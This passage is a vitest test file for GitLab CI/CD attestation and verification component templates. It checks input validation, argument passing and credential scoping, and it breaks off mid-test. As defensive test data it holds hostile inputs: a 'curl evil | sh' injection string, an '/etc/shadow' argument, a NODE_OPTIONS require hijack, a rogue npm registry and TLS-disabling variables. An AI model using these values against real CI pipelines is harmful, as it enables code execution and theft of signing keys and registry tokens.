import { execFile } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse, parseAllDocuments } from "yaml";

// The component format (GitLab docs, "CI/CD components"): a `spec:` document
// declaring `inputs:`, then `---`, then the jobs using `$[[ inputs.x ]]`.
// GitLab rejects an include that passes an undeclared input or omits one
// without a default; gitlab-ci-local does not check that, so it is checked here.

const here = dirname(fileURLToPath(import.meta.url));
const root = resolve(here, "../../..");

interface InputSpec {
  type?: string;
  default?: unknown;
  regex?: string;
  description?: string;
}

async function component(name: "attest" | "verify") {
  const text = await readFile(resolve(here, `../templates/${name}.yml`), "utf8");
  const documents = parseAllDocuments(text);
  expect(documents).toHaveLength(2);
  const header = documents[0]!.toJS() as { spec: { inputs: Record<string, InputSpec> } };
  const jobs = documents[1]!.toJS() as Record<string, Record<string, unknown>>;
  return { text, inputs: header.spec.inputs, jobs };
}

/** The example pipelines: keys and images, and the signing service with a policy file. */
const EXAMPLES = ["examples/gitlab/.gitlab-ci.yml", "examples/gitlab/signing-service/.gitlab-ci.yml"] as const;

async function exampleIncludes(example: string = EXAMPLES[0]) {
  const text = await readFile(resolve(root, example), "utf8");
  const pipeline = parseAllDocuments(text)[0]!.toJS() as { include: { component: string; inputs: Record<string, unknown> }[] };
  return pipeline.include;
}

describe("CI/CD component templates", () => {
  for (const name of ["attest", "verify"] as const) {
    it(`${name}.yml uses exactly the inputs it declares, each described`, async () => {
      const { text, inputs } = await component(name);
      const used = new Set([...text.matchAll(/\$\[\[\s*inputs\.([a-z_]+)\s*\]\]/g)].map((m) => m[1]!));
      expect([...used].sort()).toEqual(Object.keys(inputs).sort());
      for (const [input, spec] of Object.entries(inputs)) {
        expect(spec.description, `${input} has a description`).toBeTruthy();
      }
    });
  }

  it("the attest job requests the ID token the adapter reads and keeps the bundle", async () => {
    const { jobs } = await component("attest");
    const job = jobs["provenant-attest"]!;
    expect(job.id_tokens).toEqual({
      "$[[ inputs.token_variable ]]": { aud: "$[[ inputs.token_audience ]]" },
      PROVENANT_SIGNING_TOKEN: { aud: "$[[ inputs.signing_audience ]]" },
    });
    expect(job.artifacts).toMatchObject({ paths: ["$[[ inputs.bundle ]]"] });
    expect(String(job.script)).toContain("--platform gitlab");
  });

  it("the image inputs and the README name the Node versions the CLI's engines accept", async () => {
    const engines = JSON.parse(await readFile(resolve(root, "packages/cli/package.json"), "utf8")).engines.node as string;
    const versions = engines.match(/\d+\.\d+/g)!;
    expect(versions.length).toBeGreaterThan(0);
    const readme = await readFile(resolve(here, "../README.md"), "utf8");
    const readmeRow = readme.split("\n").find((line) => line.startsWith("| `image` |"))!;
    for (const name of ["attest", "verify"] as const) {
      const { inputs } = await component(name);
      expect(inputs.image!.description).toContain(engines);
    }
    for (const version of versions) expect(readmeRow).toContain(version);
  });

  it("the default command runs the exact CLI version released with the components, as the README says", async () => {
    // The attest job holds the signing key: a range would run whatever the registry serves next.
    const version = JSON.parse(await readFile(resolve(root, "packages/cli/package.json"), "utf8")).version as string;
    const expected = `npx --yes @provenant/cli@${version}`;
    for (const name of ["attest", "verify"] as const) {
      const { inputs } = await component(name);
      expect(inputs.command!.default, `${name}.yml command default`).toBe(expected);
    }
    const readme = await readFile(resolve(here, "../README.md"), "utf8");
    expect(readme.split("\n").find((line) => line.startsWith("| `command` |"))).toContain(`\`${expected}\``);
    expect(readme).toContain(`npm install --global @provenant/cli@${version}`);
  });

  it("push is a boolean input, off unless asked for", async () => {
    const { inputs } = await component("attest");
    expect(inputs.push).toMatchObject({ type: "boolean", default: false });
  });

  it("variable-name inputs only accept variable names", async () => {
    const named = [
      ["attest", "key_variable"],
      ["attest", "token_variable"],
      ["attest", "registry_user_variable"],
      ["attest", "registry_password_variable"],
      ["verify", "public_key_variable"],
      ["verify", "registry_user_variable"],
      ["verify", "registry_password_variable"],
    ] as const;
    for (const [name, input] of named) {
      const { inputs } = await component(name);
      const pattern = new RegExp(inputs[input]!.regex!);
      expect(pattern.test("PROVENANT_SIGNING_KEY")).toBe(true);
      expect(pattern.test("X}; curl evil | sh; #")).toBe(false);
    }
  });

  it("the verify job is named by job_name, held to a plain job name", async () => {
    const { text, inputs } = await component("verify");
    const pattern = new RegExp(inputs.job_name!.regex!);
    for (const good of ["provenant-verify", "provenant-verify-tarball", "gate_image2"]) expect(pattern.test(good), good).toBe(true);
    // YAML or another job's keys, a hidden job (leading dot), nothing, or a name past GitLab's length.
    for (const bad of ["x: {script: [evil]}", ".provenant-verify", "", "a".repeat(64), "two words"]) expect(pattern.test(bad), bad).toBe(false);
    const interpolated = text.replaceAll("$[[ inputs.job_name ]]", "gate-image");
    expect(Object.keys(parseAllDocuments(interpolated)[1]!.toJS() as object)).toEqual(["gate-image"]);
  });

  it.each(EXAMPLES)("the example %s verifies everything it attests, each gate its own job, and deploys after all of them", async (example) => {
    const text = await readFile(resolve(root, example), "utf8");
    const pipeline = parse(text) as Record<string, { needs?: string[]; script?: string[] }>;
    const includes = await exampleIncludes(example);
    const attested = includes.filter((i) => i.component.includes("/attest@")).flatMap((i) => String(i.inputs.subjects).split(/\s+/));
    const verifies = includes.filter((i) => i.component.includes("/verify@"));
    const verified = verifies.flatMap((i) => [...String(i.inputs.artifacts ?? "").split(/\s+/), String(i.inputs.registry_image ?? "")]).filter(Boolean);
    expect(verified.sort()).toEqual(attested.sort());
    const jobNames = verifies.map((i) => String(i.inputs.job_name ?? "provenant-verify"));
    expect(new Set(jobNames).size, "verify includes with the same job name would merge into one job").toBe(jobNames.length);
    for (const name of jobNames) {
      expect(pipeline[name], `the example places ${name}`).toBeDefined();
      expect(pipeline[name]!.script, `${name} comes from the component`).toBeUndefined();
      expect(pipeline[name]!.needs).toContain("provenant-attest");
    }
    expect(pipeline.deploy!.needs!.sort()).toEqual([...jobNames].sort());
  });

  it.each(EXAMPLES)("the example %s passes only declared inputs and every required one", async (example) => {
    for (const include of await exampleIncludes(example)) {
      const name = /\/(attest|verify)@/.exec(include.component)?.[1] as "attest" | "verify";
      expect(name, include.component).toBeDefined();
      const { inputs } = await component(name);
      for (const given of Object.keys(include.inputs)) expect(Object.keys(inputs), `${name} input ${given}`).toContain(given);
      for (const [input, spec] of Object.entries(inputs)) {
        if (spec.default === undefined) expect(Object.keys(include.inputs), `${name} needs ${input}`).toContain(input);
      }
      expect(includeErrors(inputs, include.inputs as Record<string, string | boolean>), `GitLab accepts the example's ${name} include`).toEqual([]);
    }
  });

  it("the signing-service example attests through the server and gates with the policy file it holds", async () => {
    const includes = await exampleIncludes(EXAMPLES[1]);
    const attest = includes.find((i) => i.component.includes("/attest@"))!;
    expect(attest.inputs.signing_server_url).toMatch(/^https:\/\//);
    expect(attest.inputs.push).toBeUndefined();
    const verify = includes.find((i) => i.component.includes("/verify@"))!;
    expect(existsSync(resolve(root, "examples/gitlab/signing-service", String(verify.inputs.policy)))).toBe(true);
  });
});

describe("README", () => {
  const links = (markdown: string) => [...markdown.matchAll(/\]\(([^)\s]+)\)/g)].map((m) => m[1]!).filter((link) => !/^[a-z]+:/.test(link));
  const section = (markdown: string, title: string) => {
    const start = markdown.indexOf(`\n## ${title}\n`);
    expect(start, `README section ${title}`).toBeGreaterThan(0);
    const end = markdown.indexOf("\n## ", start + 1);
    return markdown.slice(start, end === -1 ? undefined : end);
  };

  it("every relative link resolves in this repository", async () => {
    const readme = await readFile(resolve(here, "../README.md"), "utf8");
    for (const link of links(readme)) expect(existsSync(resolve(here, "..", link.split("#")[0]!)), link).toBe(true);
  });

  it("the sections a catalog project's README takes link only to what it holds (templates/)", async () => {
    const readme = await readFile(resolve(here, "../README.md"), "utf8");
    for (const title of ["Using the components", "Pinning the CLI", "Container images"]) {
      for (const link of links(section(readme, title))) expect(link, `${title}: ${link}`).toMatch(/^templates\//);
    }
  });
});

// The job scripts run under sh with a stand-in for the CLI that prints the
// arguments and registry environment it receives: what reaches the CLI is the
// contract these tests hold the scripts to (the end-to-end tests in
// components.test.ts run the real CLI).
const run = promisify(execFile);
let scratch: string;
beforeAll(async () => {
  scratch = await mkdtemp(join(tmpdir(), "provenant-gitlab-script-"));
  await writeFile(
    join(scratch, "cli.sh"),
    [
      'for a in "$@"; do printf "arg %s\\n" "$a"; done',
      "env | grep -E '^(PROVENANT_(REGISTRY_|INSECURE_REGISTRIES=|GITLAB_API=)|NODE_(OPTIONS|PATH|TLS_REJECT_UNAUTHORIZED|USE_ENV_PROXY|EXTRA_CA_CERTS)=|HTTPS_PROXY=|[Nn][Pp][Mm]_[Cc][Oo][Nn][Ff][Ii][Gg]_)' | sed 's/^/env /' || true",
      // A node started by the CLI, as the real one is: NODE_OPTIONS would load code into it.
      'node -e "" || exit 9',
      // What the CLI would read as docker's config: where, with which modes, and what.
      'if [ -n "$DOCKER_CONFIG" ]; then printf "docker_config %s %s %s\\n" "$DOCKER_CONFIG" "$(stat -c %a "$DOCKER_CONFIG")" "$(stat -c %a "$DOCKER_CONFIG/config.json")"; printf "docker_config_json %s\\n" "$(cat "$DOCKER_CONFIG/config.json")"; fi',
      // Whether a signing key reached the CLI at all (never its value).
      "env | grep -q '^PROVENANT_SIGNING_KEY=' && echo 'signing key in the environment' || true",
      'if [ -n "$STAND_IN_EXIT" ]; then exit "$STAND_IN_EXIT"; fi',
    ].join("\n"),
  );
});
afterAll(async () => {
  if (scratch) await rm(scratch, { recursive: true, force: true });
});

/**
 * The include-time checks GitLab makes (Ci::Inputs / Interpolation::Inputs::StringInput):
 * a required input given, a boolean a boolean, a value among `options:`, and a string
 * matching `regex:` through Gitlab::UntrustedRegexp#match?, which before
 * gitlab-org/gitlab!192082 was called without allow_empty_string: an empty string then
 * never matches, whatever the regex. The components must pass on both behaviours.
 */
function includeErrors(inputs: Record<string, InputSpec & { options?: unknown[] }>, given: Record<string, string | boolean>, { allowEmptyString = false } = {}) {
  const errors: string[] = [];
  for (const [input, spec] of Object.entries(inputs)) {
    const which = input in given ? "provided" : "default";
    if (!(input in given) && spec.default === undefined) {
      errors.push(`\`${input}\` input: required value has not been provided`);
      continue;
    }
    const value = input in given ? given[input] : spec.default;
    if (spec.type === "boolean") {
      if (typeof value !== "boolean") errors.push(`\`${input}\` input: ${which} value is not a boolean`);
      continue;
    }
    if (spec.options && !spec.options.includes(value)) errors.push(`\`${input}\` input: \`${String(value)}\` is not in the list of allowed options`);
    if (spec.regex !== undefined) {
      const text = String(value);
      if (!((allowEmptyString || text.trim() !== "") && new RegExp(spec.regex).test(text))) {
        errors.push(`\`${input}\` input: ${which} value does not match required RegEx pattern`);
      }
    }
  }
  return errors;
}

/** Interpolates the inputs as GitLab does, then runs the job's script lines in one sh. */
async function runScript(name: "attest" | "verify", given: Record<string, string | boolean>, env: Record<string, string> = {}) {
  const { text, inputs } = await component(name);
  // An include GitLab refuses never runs; callers test that refusal with includeErrors.
  expect(includeErrors(inputs, given), `GitLab accepts the ${name} include`).toEqual([]);
  const values: Record<string, string> = Object.fromEntries(
    Object.entries(inputs).map(([input, spec]) => [input, String(given[input] ?? spec.default ?? "")]),
  );
  values.command = `sh ${join(scratch, "cli.sh")}`;
  // GitLab interpolates the parsed YAML's keys and strings, not the file's text,
  // so a value holding a newline or a colon stays inside its string.
  const interpolate = (node: unknown): unknown =>
    typeof node === "string"
      ? node.replace(/\$\[\[\s*inputs\.([a-z_]+)\s*\]\]/g, (_, input: string) => values[input]!)
      : Array.isArray(node)
        ? node.map(interpolate)
        : node && typeof node === "object"
          ? Object.fromEntries(Object.entries(node).map(([key, value]) => [interpolate(key) as string, interpolate(value)]))
          : node;
  const jobs = interpolate(parse(text.slice(text.indexOf("\n---\n") + 5))) as Record<string, { variables: Record<string, string>; script: string[] }>;
  const job = jobs[name === "attest" ? "provenant-attest" : values.job_name!]!;
  const cwd = await mkdtemp(join(scratch, "job-"));
  await mkdir(join(cwd, "dist"));
  await writeFile(join(cwd, "dist/app.txt"), "app\n");
  // The runner expands $VAR and ${VAR} in job variables; `env` comes last, as a
  // dotenv report outranks job variables.
  const base: Record<string, string> = { PATH: process.env.PATH!, ...env };
  const expanded = Object.fromEntries(
    Object.entries(job.variables ?? {}).map(([name, value]) => [
      name,
      value.replace(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g, (_, variable: string) => base[variable] ?? ""),
    ]),
  );
  await writeFile(join(cwd, "dist/hijack.cjs"), 'process.stdout.write("hijacked\\n");\n');
  const result = await run("sh", ["-e", "-c", job.script.join("\n")], {
    cwd,
    env: { PATH: process.env.PATH, ...expanded, ...env },
  }).then(
    ({ stdout, stderr }) => ({ code: 0, stdout, stderr }),
    (error: { code?: number; stdout?: string; stderr?: string }) => ({ code: error.code ?? 1, stdout: error.stdout ?? "", stderr: error.stderr ?? "" }),
  );
  const args = [...result.stdout.matchAll(/^arg (.*)$/gm)].map((m) => m[1]!);
  const environment = Object.fromEntries([...result.stdout.matchAll(/^env ([A-Za-z_]+)=(.*)$/gm)].map((m) => [m[1]!, m[2]!]));
  const [, dockerConfig, dirMode, fileMode] = /^docker_config (\S+) (\d+) (\d+)$/m.exec(result.stdout) ?? [];
  const dockerConfigJson = /^docker_config_json (.*)$/m.exec(result.stdout)?.[1];
  return { ...result, cwd, args, environment, dockerConfig: dockerConfig ? { dir: dockerConfig, dirMode, fileMode, json: dockerConfigJson } : undefined };
}

const registryLogin = { CI_REGISTRY: "registry.gitlab.example", CI_REGISTRY_USER: "gitlab-ci-token", CI_REGISTRY_PASSWORD: "job-token-value" };
const signingKey = { PROVENANT_SIGNING_KEY: "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----" };

describe("attest job script", () => {
  it("passes subjects after --, unglobbed, so none is read as a flag", async () => {
    const { args, code } = await runScript("attest", { subjects: "dist/*.txt --push -k=/etc/shadow" }, signingKey);
    expect(code).toBe(0);
    expect(args.slice(args.indexOf("--"))).toEqual(["--", "dist/*.txt", "--push", "-k=/etc/shadow"]);
    expect(args.slice(0, args.indexOf("--"))).not.toContain("--push");
  });

  it("without push, adds no --push but still hands the CLI the scoped login for an image subject", async () => {
    // The CLI resolves a tag through the registry even when it pushes nothing.
    const { args, environment, code } = await runScript("attest", { subjects: "dist/app.txt oci://registry.gitlab.example/acme/app:1.0" }, { ...signingKey, ...registryLogin });
    expect(code).toBe(0);
    expect(args).not.toContain("--push");
    expect(environment).toMatchObject({
      PROVENANT_REGISTRY_USERNAME: "gitlab-ci-token",
      PROVENANT_REGISTRY_PASSWORD: "job-token-value",
      PROVENANT_REGISTRY_HOSTS: "registry.gitlab.example",
    });
  });

  it("without an image subject, hands the CLI no registry login, push or not", async () => {
    for (const push of [false, true]) {
      const { environment, code } = await runScript("attest", { subjects: "dist/app.txt oci-layout:build/image", push }, { ...signingKey, ...registryLogin });
      expect(code).toBe(0);
      expect(environment.PROVENANT_REGISTRY_PASSWORD).toBeUndefined();
      expect(environment.PROVENANT_REGISTRY_HOSTS).toBeUndefined();
    }
  });

  it("with push, maps GitLab's registry login to the CLI, for $CI_REGISTRY only", async () => {
    const { args, environment } = await runScript(
      "attest",
      { subjects: "oci://registry.gitlab.example/acme/app:1.0", push: true, insecure_registry: "registry.internal:5000" },
      { ...signingKey, ...registryLogin },
    );
    expect(args.slice(0, args.indexOf("--"))).toContain("--push");
    expect(environment).toEqual({
      PROVENANT_GITLAB_API: "true",
      PROVENANT_REGISTRY_USERNAME: "gitlab-ci-token",
      PROVENANT_REGISTRY_PASSWORD: "job-token-value",
      PROVENANT_REGISTRY_HOSTS: "registry.gitlab.example",
      PROVENANT_INSECURE_REGISTRIES: "registry.internal:5000",
    });
  });

  it("with push, takes the login from the variables the inputs name and sends it to registry_hosts", async () => {
    const { environment } = await runScript(
      "attest",
      { subjects: "oci://docker.io/acme/app:1.0", push: true, registry_user_variable: "HUB_USER", registry_password_variable: "HUB_TOKEN", registry_hosts: "docker.io" },
      { ...signingKey, ...registryLogin, HUB_USER: "acme", HUB_TOKEN: "hub-token" },
    );
    expect(environment).toMatchObject({ PROVENANT_REGISTRY_USERNAME: "acme", PROVENANT_REGISTRY_PASSWORD: "hub-token", PROVENANT_REGISTRY_HOSTS: "docker.io" });
  });
});

describe("a registry login with no registry to go to", () => {
  // Without CI_REGISTRY (the project's registry is off) and registry_hosts,
  // PROVENANT_REGISTRY_HOSTS would be empty, which the CLI reads as "any registry".
  const hubLogin = { HUB_USER: "acme", HUB_TOKEN: "hub-token" };
  const login = { registry_user_variable: "HUB_USER", registry_password_variable: "HUB_TOKEN" };

  it("attest stops before the CLI, naming registry_hosts", async () => {
    const { code, stderr, args } = await runScript("attest", { subjects: "oci://docker.io/acme/app:1.0", ...login }, { ...signingKey, ...hubLogin });
    expect(code).toBe(2);
    expect(stderr).toContain("the registry login in HUB_USER / HUB_TOKEN has no registry to go to: the input registry_hosts is empty");
    expect(stderr).not.toContain("hub-token");
    expect(args).toEqual([]);
  });

  it("verify stops before the CLI, naming registry_hosts", async () => {
    const { code, stderr, args } = await runScript(
      "verify",
      { registry_image: "oci://docker.io/acme/app:1.0", ...login },
      { PROVENANT_PUBLIC_KEY: "-----BEGIN PUBLIC KEY-----", ...hubLogin },
    );
    expect(code).toBe(2);
    expect(stderr).toMatch(/registry_hosts is empty and CI_REGISTRY is not set/);
    expect(args).toEqual([]);
  });

  it("with registry_hosts given, or no login at all, the CLI runs", async () => {
    const scoped = await runScript("attest", { subjects: "oci://docker.io/acme/app:1.0", ...login, registry_hosts: "docker.io" }, { ...signingKey, ...hubLogin });
    expect(scoped.code).toBe(0);
    expect(scoped.environment.PROVENANT_REGISTRY_HOSTS).toBe("docker.io");
    // GitLab's defaults without a container registry: no CI_REGISTRY_USER either; the CLI falls back to the docker config.
    const anonymous = await runScript("attest", { subjects: "oci://docker.io/library/alpine:3" }, signingKey);
    expect(anonymous.code).toBe(0);
    expect(anonymous.args).toContain("oci://docker.io/library/alpine:3");
  });
});

describe("DOCKER_AUTH_CONFIG", () => {
  // docker's config.json, as GitLab jobs commonly receive registry credentials.
  const dockerAuthConfig = JSON.stringify({ auths: { "registry.example.com": { auth: Buffer.from("robot:robot-secret").toString("base64") } } });
  const publicKey = { PROVENANT_PUBLIC_KEY: "-----BEGIN PUBLIC KEY-----" };

  for (const [name, given, env] of [
    ["attest", { subjects: "oci://registry.example.com/acme/app:1.0" }, signingKey],
    ["verify", { registry_image: "oci://registry.example.com/acme/app:1.0" }, publicKey],
  ] as const) {
    it(`${name} hands it to the CLI as a private DOCKER_CONFIG, removed after the CLI ran`, async () => {
      const { code, dockerConfig, stderr } = await runScript(name, given, { ...env, DOCKER_AUTH_CONFIG: dockerAuthConfig });
      expect(code).toBe(0);
      expect(dockerConfig).toMatchObject({ dirMode: "700", fileMode: "600", json: dockerAuthConfig });
      expect(existsSync(dockerConfig!.dir)).toBe(false);
      expect(stderr).not.toContain("robot");
    });
  }

  it("reads a File variable's content, and a failing CLI still fails the job with its code after the cleanup", async () => {
    const file = join(scratch, "docker-auth-config.json");
    await writeFile(file, dockerAuthConfig);
    const { code, dockerConfig } = await runScript("attest", { subjects: "oci://registry.example.com/acme/app:1.0" }, { ...signingKey, DOCKER_AUTH_CONFIG: file, STAND_IN_EXIT: "1" });
    expect(code).toBe(1);
    expect(dockerConfig?.json).toBe(dockerAuthConfig);
    expect(existsSync(dockerConfig!.dir)).toBe(false);
  });

  it("is not handed over when nothing is read from a registry", async () => {
    const { code, dockerConfig } = await runScript("attest", { subjects: "dist/app.txt" }, { ...signingKey, DOCKER_AUTH_CONFIG: dockerAuthConfig });
    expect(code).toBe(0);
    expect(dockerConfig).toBeUndefined();
  });
});

describe("job scripts without a key", () => {
  it("attest stops before the CLI, naming the CI/CD variable and the input", async () => {
    const { code, stderr, args } = await runScript("attest", { subjects: "dist/app.txt", key_variable: "RELEASE_KEY" }, { RELEASE_KEY: "" });
    expect(code).toBe(2);
    expect(stderr).toContain("the CI/CD variable RELEASE_KEY (input key_variable) is empty or not set");
    expect(args).toEqual([]);
  });

  it("verify stops before the CLI, naming the CI/CD variable and the input", async () => {
    const { code, stderr, args } = await runScript("verify", { artifacts: "dist/app.txt" });
    expect(code).toBe(2);
    expect(stderr).toContain("the CI/CD variable PROVENANT_PUBLIC_KEY (input public_key_variable) is empty or not set");
    expect(args).toEqual([]);
  });
});

describe("attest job script and the ID token", () => {
  const oneSubject = { subjects: "dist/app.txt" };

  it("names the token's variable to the CLI, PROVENANT_ID_TOKEN by default", async () => {
    const { args } = await runScript("attest", oneSubject, { ...signingKey, PROVENANT_ID_TOKEN: "eyJ.token" });
    expect(args.slice(args.indexOf("--token-variable"), args.indexOf("--token-variable") + 2)).toEqual(["--token-variable", "PROVENANT_ID_TOKEN"]);
    expect(args).not.toContain("eyJ.token");
  });

  it("requests the token into the variable token_variable names and reads it from there", async () => {
    const { text } = await component("attest");
    const interpolated = text.replaceAll("$[[ inputs.token_variable ]]", "GITLAB_OIDC_TOKEN");
    expect(Object.keys((parseAllDocuments(interpolated)[1]!.toJS() as Record<string, { id_tokens: object }>)["provenant-attest"]!.id_tokens)).toEqual([
      "GITLAB_OIDC_TOKEN",
      "PROVENANT_SIGNING_TOKEN",
    ]);
    const { args } = await runScript("attest", { ...oneSubject, token_variable: "GITLAB_OIDC_TOKEN" }, { ...signingKey, GITLAB_OIDC_TOKEN: "eyJ.token" });
    expect(args).toContain("GITLAB_OIDC_TOKEN");
  });

  it("without a token, warns naming the variable and lets the CLI fall back to CI variables", async () => {
    const { args, stderr, code } = await runScript("attest", { ...oneSubject, token_variable: "GITLAB_OIDC_TOKEN" }, signingKey);
    expect(code).toBe(0);
    expect(args).not.toContain("--token-variable");
    expect(stderr).toMatch(/GITLAB_OIDC_TOKEN holds no ID token/);
  });
});

describe("verify job script", () => {
  const publicKey = { PROVENANT_PUBLIC_KEY: "-----BEGIN PUBLIC KEY-----\n...\n-----END PUBLIC KEY-----" };

  it("verifies artifacts against the bundle, artifacts after --", async () => {
    const { args, environment, code } = await runScript("verify", { artifacts: "dist/*.txt -x", source_branch: "main" }, { ...publicKey, ...registryLogin });
    expect(code).toBe(0);
    expect(args.slice(args.indexOf("--bundle"))).toEqual(["--bundle", "provenance.sigstore.json", "--", "dist/*.txt", "-x"]);
    expect(args).toContain("--source-branch");
    expect(environment.PROVENANT_REGISTRY_PASSWORD).toBeUndefined();
  });

  it("with an oci:// artifact, hands the CLI the scoped login to resolve it", async () => {
    const { args, environment, code } = await runScript("verify", { artifacts: "dist/app.txt oci://registry.gitlab.example/acme/app:1.0" }, { ...publicKey, ...registryLogin });
    expect(code).toBe(0);
    expect(args.slice(args.indexOf("--"))).toEqual(["--", "dist/app.txt", "oci://registry.gitlab.example/acme/app:1.0"]);
    expect(environment).toMatchObject({ PROVENANT_REGISTRY_PASSWORD: "job-token-value", PROVENANT_REGISTRY_HOSTS: "registry.gitlab.example" });
  });

  it("with registry_image, runs verify --image with the registry login and no bundle", async () => {
    const { args, environment, code } = await runScript(
      "verify",
      { registry_image: "oci://registry.gitlab.example/acme/app:1.0", source_branch: "main" },
      { ...publicKey, ...registryLogin },
    );
    expect(code).toBe(0);
    expect(args.slice(-2)).toEqual(["--image", "oci://registry.gitlab.example/acme/app:1.0"]);
    expect(args).not.toContain("--bundle");
    expect(environment).toMatchObject({ PROVENANT_REGISTRY_USERNAME: "gitlab-ci-token", PROVENANT_REGISTRY_HOSTS: "registry.gitlab.example" });
  });

  it("runs the same script under the name job_name gives", async () => {
    const { args, code } = await runScript("verify", { job_name: "provenant-verify-tarball", artifacts: "dist/app.txt" }, publicKey);
    expect(code).toBe(0);
    expect(args.slice(args.indexOf("--bundle"))).toEqual(["--bundle", "provenance.sigstore.json", "--", "dist/app.txt"]);
  });

  it("refuses both artifacts and registry_image, and neither, naming the inputs", async () => {
    const both = await runScript("verify", { artifacts: "dist/app.txt", registry_image: "oci://r.example/a:1" }, publicKey);
    expect(both.code).toBe(2);
    expect(both.stderr).toMatch(/artifacts or registry_image, not both/);
    expect(both.args).toEqual([]);
    const neither = await runScript("verify", {}, publicKey);
    expect(neither.code).toBe(2);
    expect(neither.stderr).toMatch(/needs the input artifacts .* or registry_image/);
  });
});

describe("attest with a signing server (signing_server_url)", () => {
  const server = { subjects: "dist/app.txt", signing_server_url: "https://provenant.example.com" };
  const keyFile = { PROVENANT_SIGNING_KEY: "-----BEGIN PRIVATE KEY-----\nsecret\n-----END PRIVATE KEY-----", PROVENANT_SIGNING_TOKEN: "eyJ.signing" };

  it("sends the signing token to the server, with no key in the CLI's arguments or environment", async () => {
    // Without the server, the same key variable reaches the CLI: the check below can fail.
    expect((await runScript("attest", { subjects: "dist/app.txt" }, keyFile)).stdout).toContain("signing key in the environment");
    const { args, stdout, code } = await runScript("attest", server, keyFile);
    expect(code).toBe(0);
    expect(args.slice(0, args.indexOf("--"))).toEqual([
      "attest", "--platform", "gitlab", "--server", "https://provenant.example.com", "--bundle", "provenance.sigstore.json",
      "--token-audience", "provenant-signing", "--token-variable", "PROVENANT_SIGNING_TOKEN",
    ]);
    expect(args.slice(args.indexOf("--"))).toEqual(["--", "dist/app.txt"]);
    expect(stdout).not.toContain("signing key in the environment");
    expect(args.join(" ")).not.toContain("eyJ.signing");
  });

  it("needs no signing key, and takes the server's audience from signing_audience", async () => {
    const { args, code, stderr } = await runScript("attest", { ...server, signing_audience: "https://provenant.example.com" }, {});
    expect(code).toBe(0);
    expect(stderr).not.toContain("KEY_UNREADABLE");
    expect(args.slice(args.indexOf("--token-audience"), args.indexOf("--token-audience") + 2)).toEqual(["--token-audience", "https://provenant.example.com"]);
  });

  it("fails with the CLI's code when the server cannot sign, and never runs the CLI again with the key", async () => {
    const { code, stdout } = await runScript("attest", server, { ...keyFile, STAND_IN_EXIT: "1" });
    expect(code).toBe(1);
    expect(stdout.match(/^arg attest$/gm)).toHaveLength(1);
    expect(stdout).not.toMatch(/^arg --key$/m);
  });

  it("refuses push, and a server URL naming a CI/CD variable, before the CLI", async () => {
    const push = await runScript("attest", { ...server, push: true }, keyFile);
    expect(push.code).toBe(2);
    expect(push.stderr).toMatch(/push does not go with signing_server_url/);
    expect(push.args).toEqual([]);
    const variable = await runScript("attest", { ...server, signing_server_url: "$PROVENANT_SERVER" }, { ...keyFile, PROVENANT_SERVER: "https://evil.example" });
    expect(variable.code).toBe(2);
    expect(variable.stderr).toContain('the input signing_server_url is "$PROVENANT_SERVER"');
    expect(variable.args).toEqual([]);
    const { inputs } = await component("attest");
    expect(includeErrors(inputs, { subjects: "dist/app.txt", signing_audience: "$CI_SERVER_URL" })).toEqual([
      "`signing_audience` input: provided value does not match required RegEx pattern",
    ]);
  });
});

describe("verify with a policy file (policy)", () => {
  it("runs verify --policy with the evidence files and the bundle, no key and no single-rule flags", async () => {
    const { args, code } = await runScript("verify", { artifacts: "dist/app.txt", policy: ".provenant/release.yaml", evidence: "tests.sigstore.json scan.sigstore.json" }, {});
    expect(code).toBe(0);
    expect(args).toEqual([
      "verify", "--policy", ".provenant/release.yaml", "--evidence", "tests.sigstore.json", "--evidence", "scan.sigstore.json",
      "--bundle", "provenance.sigstore.json", "--", "dist/app.txt",
    ]);
  });

  it("refuses single-rule inputs beside it, naming them, and registry_image", async () => {
    const mixed = await runScript("verify", { artifacts: "dist/app.txt", policy: "p.yaml", source_branch: "main", slsa_level: "2", allow_any_source: true }, {});
    expect(mixed.code).toBe(2);
    expect(mixed.stderr).toContain("leave out the inputs source_branch slsa_level allow_any_source");
    expect(mixed.args).toEqual([]);
    const image = await runScript("verify", { registry_image: "oci://r.example/a:1", policy: "p.yaml" }, {});
    expect(image.code).toBe(2);
    expect(image.stderr).toMatch(/policy with registry_image is not supported yet/);
  });

  it("refuses evidence without a policy, and a policy path naming a CI/CD variable", async () => {
    const publicKey = { PROVENANT_PUBLIC_KEY: "-----BEGIN PUBLIC KEY-----\n...\n-----END PUBLIC KEY-----" };
    const evidence = await runScript("verify", { artifacts: "dist/app.txt", evidence: "tests.json", allow_any_source: true }, publicKey);
    expect(evidence.code).toBe(2);
    expect(evidence.stderr).toMatch(/evidence goes with the input policy/);
    const variable = await runScript("verify", { artifacts: "dist/app.txt", policy: "$POLICY" }, { POLICY: "/tmp/allow-all.yaml" });
    expect(variable.code).toBe(2);
    expect(variable.stderr).toContain('the input policy is "$POLICY"');
  });
});

// GitLab: variables from a dotenv report "take precedence over job variables"
// (docs.gitlab.com/ci/variables/dotenv_variables), and Ci::Variables::Builder
// adds them after the predefined and job variables. Any job whose artifacts a
// component's job receives can publish one; `env` below plays that report.
/** GitLab's `${NAME}` form of a variable reference. */
const braced = (name: string) => `\${${name}}`;

describe("a dotenv report from an earlier job", () => {
  const publicKey = { PROVENANT_PUBLIC_KEY: "-----BEGIN PUBLIC KEY-----\n...\n-----END PUBLIC KEY-----" };
  const nodeAndNpm = {
    NODE_OPTIONS: "--require=./dist/hijack.cjs",
    NODE_PATH: "./dist",
    npm_config_registry: "https://npm.evil.example/",
    NPM_CONFIG_USERCONFIG: "./dist/.npmrc",
    NODE_TLS_REJECT_UNAUTHORIZED: "0",
    NODE_USE_ENV_PROXY: "1",
  };

  it("the payload would run in node if it reached it", async () => {
    // Without this the tests below could pass because the payload never worked.
    const cwd = await mkdtemp(join(scratch, "payload-"));
    await mkdir(join(cwd, "dist"));
    await writeFile(join(cwd, "dist/hijack.cjs"), 'process.stdout.write("hijacked\\n");\n');
    const { stdout } = await run("node", ["-e", ""], { cwd, env: { PATH: process.env.PATH, NODE_OPTIONS: nodeAndNpm.NODE_OPTIONS } });
